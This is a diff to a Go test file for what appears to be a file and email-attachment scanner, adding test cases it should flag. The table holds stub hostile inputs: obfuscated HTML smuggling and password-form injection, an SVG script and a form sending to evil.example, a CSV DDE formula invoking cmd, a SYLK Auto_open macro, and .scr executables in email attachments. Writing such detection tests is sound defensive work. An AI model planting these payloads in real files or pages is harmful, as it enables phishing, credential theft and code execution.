@@ -13,6 +13,7 @@ import (
 	"testing"
 
 	"picket/internal/compound/compoundtest"
+	"picket/internal/message/outlook/outlooktest"
 )
 
 var black, white = color.Gray{0}, color.Gray{255}
@@ -73,6 +74,8 @@ func TestInspectFindings(t *testing.T) {
 		{"a.html", []byte("<script>var b=new Blob([atob('" + strings.Repeat("QUJD", 80) + "')]);a.href=URL.createObjectURL(b)</script>"), Smuggling, "", "Blob("},
 		{"a.html", []byte("<script>document.write(unescape('" + strings.Repeat("%3C%61%3E", 40) + "'))</script>"), Smuggling, "", "document.write of"},
 		{"a.html", []byte("<a download=x.zip href='data:application/zip;base64,UEsDBA=='>x</a>"), Smuggling, "", "data:application/zip"},
+		{"a.html", []byte("<script>document.write(unescape('" + strings.Repeat("%20", 60) + "%3Cform%3E%3Cinput type=password name=x%3E'))</script>"), PageForm, "decoded 1", "password"},
+		{"a.html", []byte("<script>eval(String.fromCharCode(" + strings.Repeat("32,", 100) + "60,102,111,114,109,62,60,105,110,112,117,116,32,116,121,112,101,61,112,97,115,115,119,111,114,100,62))</script>"), PageForm, "decoded 1", "password"},
 		{"a.svg", []byte("<svg xmlns='http://www.w3.org/2000/svg'><script>location.href='https://evil.example/x'</script></svg>"), Script, "", "script in a picture"},
 		{"a.htm", []byte("<form action='https://evil.example/p'><input type=PASSWORD name=p></form>"), PageForm, "", "PASSWORD"},
 		{"a.rar", rar4("b.exe", false), Executable, "b.exe", "by its name"},
@@ -81,6 +84,9 @@ func TestInspectFindings(t *testing.T) {
 		{"a.rar", rar5("b.js", true), Encrypted, "b.js", "b.js"},
 		{"a.rar", rar5("b.js", true), Unread, "", "not read"},
 		{"a.csv", []byte("name,x\n=cmd|' /C x'!A0,1\n"), Object, "", "DDE"},
+		{"a.eml", []byte("Message-ID: <1@a.example>\r\nContent-Type: application/octet-stream; name=b.scr\r\nContent-Disposition: attachment; filename=b.scr\r\n\r\n" + string(program())), Executable, "b.scr", "pe"},
+		{"a.msg", (&outlooktest.Message{Attachments: []outlooktest.Properties{{0x3707: "b.scr", 0x3701: program()}}}).Write(), Executable, "b.scr", "pe"},
+		{"winmail.dat", (&outlooktest.Message{Attachments: []outlooktest.Properties{{0x3707: "b.scr", 0x3701: program()}}}).TNEF(), Executable, "b.scr", "pe"},
 		{"a.slk", []byte("ID;PWXL\nO;E\nNN;NAuto_open"), Macro, "", "SYLK"},
 	}
 	for _, test := range tests {
